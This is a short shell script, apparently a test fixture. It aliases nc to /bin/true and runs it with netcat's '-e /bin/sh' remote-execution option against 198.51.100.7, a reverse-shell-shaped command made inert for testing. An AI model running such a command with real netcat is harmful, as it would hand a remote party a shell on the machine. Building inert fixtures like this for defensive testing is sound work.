#!/bin/sh
# A program named nc (a symlink to /bin/true in $1: netcat is not installed and nothing must
# connect) run with netcat's remote-execution option `-e /bin/sh`.
set -e
ln -s /bin/true "$1/nc"
"$1/nc" -e /bin/sh 198.51.100.7 22
